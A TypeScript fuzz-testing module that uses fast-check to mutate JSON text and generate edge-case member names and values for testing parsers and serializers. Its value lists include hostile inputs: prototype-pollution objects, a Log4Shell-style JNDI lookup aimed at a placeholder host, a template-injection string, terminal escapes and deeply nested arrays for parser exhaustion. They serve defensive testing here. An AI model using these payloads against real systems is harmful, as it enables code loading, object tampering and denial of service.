import fc from "fast-check";

/**
 * JSON as text, which says more than the values it stands for: duplicate keys, numbers that no double holds, escapes. A
 * string is JSON text, an array its elements; the members of an object are in order, and may repeat a name.
 */
export type JsonText = string | readonly JsonText[] | JsonObjectText;

interface JsonObjectText {
  readonly members: readonly (readonly [name: string, value: JsonText])[];
}

/** @returns the text of a value that `JSON.parse` could have returned. */
export function textOf(value: unknown): JsonText {
  if (Array.isArray(value)) return value.map(textOf);
  if (typeof value !== "object" || value === null) return JSON.stringify(value) ?? "null";
  return { members: Object.entries(value).map(([name, member]) => [JSON.stringify(name), textOf(member)]) };
}

/** @returns JSON text in one piece. */
export function write(text: JsonText): string {
  if (typeof text === "string") return text;
  if (isList(text)) return `[${text.map(write).join(",")}]`;
  return `{${text.members.map(([name, value]) => `${name}:${write(value)}`).join(",")}}`;
}

/** Something to do to a value, or to one that it holds. */
export interface Mutation {
  /** At each level the member or element that is gone into; the number after the last one is for staying. */
  readonly path: readonly number[];
  readonly kind: "replace" | "add" | "repeat" | "drop" | "wrap";
  readonly name: string;
  readonly value: JsonText;
}

/** @returns a value with one change somewhere in it. */
export function mutate(text: JsonText, { path, ...mutation }: Mutation): JsonText {
  const [step, ...rest] = path;
  const size = typeof text === "string" ? 0 : isList(text) ? text.length : text.members.length;
  const index = step === undefined ? size : step % (size + 1);
  if (typeof text === "string" || index === size) return changed(text, { path, ...mutation });
  const next = { path: rest, ...mutation };
  if (isList(text)) {
    return text.map((element, other) => (other === index ? mutate(element, next) : element));
  }
  return {
    members: text.members.map(([name, value], other) => [
      name,
      other === index ? mutate(value, next) : value,
    ]),
  };
}

function changed(text: JsonText, { path, kind, name, value }: Mutation): JsonText {
  if (kind === "wrap") return [text];
  if (kind === "replace" || typeof text === "string") return value;
  const at = path[0] ?? 0;
  if (isList(text)) return kind === "drop" ? text.slice(1) : [...text, kind === "repeat" ? text : value];
  const member = text.members[at % Math.max(text.members.length, 1)];
  if (kind === "drop") return { members: text.members.filter((one) => one !== member) };
  return { members: [...text.members, kind === "repeat" && member ? [member[0], value] : [name, value]] };
}

function isList(text: JsonText): text is readonly JsonText[] {
  return Array.isArray(text);
}

/** Names that objects have by themselves, or that code may fall for. */
const oddNames = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "valueOf",
  "hasOwnProperty",
  "toJSON",
  "then",
  "length",
  "0",
  "-1",
  "",
  " ",
  "\u0000",
  "a.b",
  "[0]",
  "\u{1f3ac}",
  "streamId\u0000",
  "x".repeat(300),
];

export const names = fc
  .oneof({ arbitrary: fc.constantFrom(...oddNames), weight: 4 }, { arbitrary: fc.string(), weight: 1 })
  .map((name) => JSON.stringify(name));

const deep = (levels: number, open: string, close: string) => open.repeat(levels) + close.repeat(levels);

const oddTexts: readonly string[] = [
  "null",
  "true",
  "0",
  "-0",
  "1",
  "1.5",
  "1e400",
  "-1e400",
  "1e-400",
  "9007199254740993",
  "123456789012345678901234567890",
  "{}",
  "[]",
  "[[]]",
  "[null]",
  '""',
  '" "',
  '"\\ud800"',
  '"\\udc00\\ud800"',
  '"\\u0000"',
  '"\\u0007\\u001b[31m"',
  '"\u202e\ufeff\u2028"',
  '"__proto__"',
  '"\\"}],\\"x\\":1"',
  '"${jndi:ldap://x.example/a}"',
  '"{% $states.input %}"',
  `"${"x".repeat(281)}"`,
  `"${"🎬".repeat(140)}"`,
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"toString":null,"valueOf":1,"hasOwnProperty":"x"}',
  '{"length":-1,"0":"x"}',
  '{"then":"x","toJSON":"y"}',
  deep(10_000, "[", "]"),
  deep(10_000, '{"a":[', "]}").replace("[]", "[1]"),
];

/** Values that parsers, checks and serializers may trip over, and any others. */
export const oddValues: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...oddTexts), weight: 6 },
  { arbitrary: fc.json({ maxDepth: 3 }), weight: 1 },
);

export const mutations: fc.Arbitrary<Mutation> = fc.record({
  path: fc.array(fc.nat(9), { maxLength: 4 }),
  kind: fc.constantFrom("replace", "replace", "add", "add", "repeat", "drop", "wrap"),
  name: names,
  value: oddValues,
});
